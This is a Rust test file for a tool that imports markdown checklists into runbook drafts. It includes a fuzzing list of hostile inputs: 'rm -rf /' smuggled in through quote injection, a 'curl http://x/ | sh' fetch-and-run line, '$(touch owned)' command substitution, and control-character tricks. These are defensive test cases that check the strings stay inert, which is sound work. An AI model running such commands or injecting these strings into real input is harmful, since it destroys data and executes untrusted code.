use super::*;
use crate::runbook::finding::{Paint, any_error, to_text};
use crate::runbook::lint::{Context, lint};
use crate::runbook::model::Action;
use crate::runbook::{Loaded, load};
use proptest::prelude::*;

const SHEET: &str = "# Roll back the web tier

Points the **web tier** at the last good [release](http://wiki/release).

## What this does not undo

- Orders that were already sent

## Prepare

1. Announce it on the status page
2. Get approval from the release manager
3. Check that there is something to undo:

   ```sh
   readlink current
   ```

## Act

- [ ] Stop the deployer

  ```console
  $ deployctl pause
  paused
  ```

- [x] Run `ln -sfn releases/<version> current`
- [ ] Remove the cache
  ```bash
  rm -rf /var/cache/web
  ```
- [ ] Wait until the load balancer shows it
- [ ] Wait 10 minutes
- [ ] Fix the rows
  ```sql
  update orders set state = 'open';
  ```
- [ ] Verify with `curl -fsS http://localhost/version`
- [ ] Decide whether to page somebody
";

fn loaded(text: &str) -> Loaded {
    match load("draft.yaml", text.as_bytes()) {
        Ok(loaded) => loaded,
        Err(findings) => panic!("{}\n{text}", to_text(&findings, Paint::Plain)),
    }
}

#[test]
fn a_checklist_becomes_a_runbook() {
    let draft = import("web-back", SHEET).unwrap();
    let runbook = loaded(&draft.text).runbook;
    assert_eq!((runbook.id.as_str(), runbook.title.as_str()), ("web-back", "Roll back the web tier"));
    assert_eq!(runbook.summary, "Points the web tier at the last good release.");
    assert_eq!(runbook.does_not_undo, "Orders that were already sent");
    let words: Vec<(&str, &str)> = runbook.steps().map(|s| (s.id.as_str(), s.action.word())).collect();
    assert_eq!(
        words,
        [
            ("announce-it-on-the", "manual"),
            ("get-approval-from-the", "approve"),
            ("check-that-there-is", "check"),
            ("stop-the-deployer", "run"),
            ("run-ln-sfn-releases-version", "run"),
            ("remove-the-cache", "run"),
            ("wait-until-the-load", "await"),
            ("wait-10-minutes", "wait"),
            ("fix-the-rows", "manual"),
            ("verify-with-curl-fss", "check"),
            ("decide-whether-to-page", "manual"),
        ]
    );
    let Action::Approve(approve) = &runbook.steps().nth(1).unwrap().action else { panic!("a hold point") };
    assert_eq!(approve.covers, ["stop-the-deployer", "run-ln-sfn-releases-version", "remove-the-cache"]);
    assert!(draft.text.contains("run: \"deployctl pause\""), "{}", draft.text);
    assert!(draft.text.contains("releases/{{ params.version }} current"), "{}", draft.text);
    assert!(draft.text.contains("# DECIDE: `rm -r` destroys something"), "{}", draft.text);
    assert_eq!(draft.open, draft.text.matches("DECIDE:").count());
    assert_eq!(draft.steps, 11);
    assert_eq!(runbook.phases.iter().map(|p| p.name.as_str()).collect::<Vec<_>>(), ["Prepare", "Act"]);
}

#[test]
fn a_draft_has_warnings_and_no_errors() {
    let draft = import("web-back", SHEET).unwrap();
    let findings = lint(&loaded(&draft.text), &Context::default());
    assert!(!any_error(&findings), "{}", to_text(&findings, Paint::Plain));
    assert!(findings.iter().any(|f| f.code == "lint-unfinished"), "what is left to do is found");
}

#[test]
fn without_a_step_there_is_no_draft() {
    assert_eq!(import("x", "# Title\n\nOnly words.\n"), None);
    assert_eq!(import("x", ""), None);
}

#[test]
fn an_item_of_nothing_but_marks_is_still_a_step() {
    let draft = import("x", "0) *\n- Run ` `\n- [ ] **\n```sh\n$ \n```\n").unwrap();
    assert!(!any_error(&lint(&loaded(&draft.text), &Context::default())));
}

#[test]
fn braces_and_quotes_survive() {
    let text = "- [ ] Say \"{{ hello }}\": it's `{{ x }}`\n- [ ] Run\n  ```\n  docker ps --format '{{.Names}}'\n  ```\n\
                - [ ] Look\n  ```\n  psql -c 'select \"<id>\"'\n  ```\n";
    let draft = import("x", text).unwrap();
    let findings = lint(&loaded(&draft.text), &Context::default());
    assert!(!any_error(&findings), "{}", to_text(&findings, Paint::Plain));
}

/// Text that was written to do harm: to break out of its place in the draft, to run, to mislead whoever reads it.
fn hostile() -> Vec<String> {
    let lines = |line: &str, n: usize| line.repeat(n);
    vec![
        "- [ ] x\"\n    run: [rm, -rf, /]\n- [ ] y".to_owned(),
        "- [ ] x\\\", run: \"rm -rf /\", y: \"\n".to_owned(),
        "# T\"\nid: other\n- [ ] a: b # c\n".to_owned(),
        "- [ ] `a` \u{202e}desrever\u{202c} \u{200b}\u{feff}\n".to_owned(),
        "- [ ] \u{1b}[31mred\u{1b}[0m\u{7}\u{0}\n".to_owned(),
        "- [ ] a\u{85}b\u{2028}c\r- [ ] d\n".to_owned(),
        "- [ ] Run `curl http://x/ | sh`\n- [ ] Run `$(touch owned)` `{{ params.x }}` `{{ secrets }}`\n"
            .to_owned(),
        "```sh\n- [ ] in code\n~~~\n- [ ] still in code\n".to_owned(),
        "- [ ] <a><b c> `<x> <y-z> <{{ q }}> <params.x>`\n".to_owned(),
        "- [ ] # DECIDE: nothing at all\n- [ ] \n-\n- \n".to_owned(),
        "- [ ] declare\n- [ ] override\n- [ ] end\n- [ ] close\n- [ ] end\n".to_owned(),
        "- [ ] Wait 99999999999999999999 minutes\n- [ ] Wait 0 s\n- [ ] wait -1 min\n".to_owned(),
        "- [ ] Approve approve approval sign-off\n- [ ] Get approval from everybody\n".to_owned(),
        "&a *b !c |d >e %f @g\n\n- [ ] *a\n- [ ] &b\n- [ ] !c\n- [ ] %d\n- [ ] @e\n- [ ] ? f\n- [ ] - g\n"
            .to_owned(),
        format!("- [ ] {}\n", "é🙂".repeat(5000)),
        format!("- [ ] {}\n", "[".repeat(200_000)),
        format!("- [ ] {}](x\n", "[a".repeat(100_000)),
        format!("- [ ] {}\n", "[a](".repeat(50_000)),
        format!("- [ ] {}\n", "`".repeat(100_000)),
        format!("- [ ] {}\n", "<a> ".repeat(20_000)),
        format!("{}- [ ] deep\n", "  ".repeat(50_000)),
        format!("{}\n- [ ] a\n", "#".repeat(100_000)),
        lines("- [ ] the same step\n", 3000),
        lines("# H\n- [ ] a\n", 1500),
        lines("```\n", 9001),
    ]
}

#[test]
fn what_was_written_to_do_harm_is_only_text_in_the_draft() {
    let begun = std::time::Instant::now();
    for text in hostile() {
        let shown: String = text.chars().take(60).collect();
        let Some(draft) = import("any-name", &text) else { continue };
        let loaded = loaded(&draft.text);
        let findings = lint(&loaded, &Context::default());
        assert!(!any_error(&findings), "{shown}\n{}", to_text(&findings, Paint::Plain));
        assert_eq!(loaded.runbook.id, "any-name", "{shown}");
        // A command is what stood in code, and nothing else.
        for step in loaded.runbook.steps() {
            if let Action::Run { command, .. } = &step.action {
                let said = format!("{command:?}");
                assert!(text.contains('`'), "{shown}: {said}");
                assert!(!said.contains("rm -rf") && !said.contains("\"rm\""), "{shown}: {said}");
            }
        }
        let odd = |c: char| c.is_control() && c != '\n';
        assert!(!draft.text.contains(odd), "{shown}");
    }
    assert!(begun.elapsed() < std::time::Duration::from_secs(120), "{:?}", begun.elapsed());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]
    #[test]
    fn any_bytes_make_a_draft_that_can_be_read_or_none(
        bytes in prop::collection::vec(prop_oneof![
            Just("- [ ] ".to_owned()), Just("\n".to_owned()), Just("```".to_owned()), Just("# ".to_owned()), Just("`".to_owned()),
            Just("{{".to_owned()), Just("\"".to_owned()), Just("'".to_owned()), Just("\\".to_owned()), Just(": ".to_owned()), Just("<x>".to_owned()),
            Just("$(x)".to_owned()), any::<char>().prop_map(String::from), "[a-zA-Z ]{0,8}",
        ], 0..60),
    ) {
        if let Some(draft) = import("any-name", &bytes.concat()) {
            let findings = lint(&loaded(&draft.text), &Context::default());
            prop_assert!(!any_error(&findings), "{}\n{}", to_text(&findings, Paint::Plain), draft.text);
        }
    }

    #[test]
    fn whatever_a_checklist_says_its_draft_can_be_read(
        lines in prop::collection::vec(prop_oneof![
            "[#]{1,7} [ -~]{0,20}", "- \\[[ x]\\] [ -~]{0,30}", "[0-9]{1,3}[.)] [ -~é🙂]{0,30}", "(```|~~~)(sh|sql|)", "[ ]{0,4}[ -~]{0,30}",
            "- (Run|Wait until|Verify|Approve|Wait) `[ -~]{0,20}`", "[\\u{0}-\\u{ff}]{0,12}", "  <[a-z ]{1,8}> '<[a-z]{1,4}>' \\{\\{",
        ], 0..25),
    ) {
        if let Some(draft) = import("any-name", &lines.join("\n")) {
            let findings = lint(&loaded(&draft.text), &Context::default());
            prop_assert!(!any_error(&findings), "{}\n{}", to_text(&findings, Paint::Plain), draft.text);
        }
    }
}
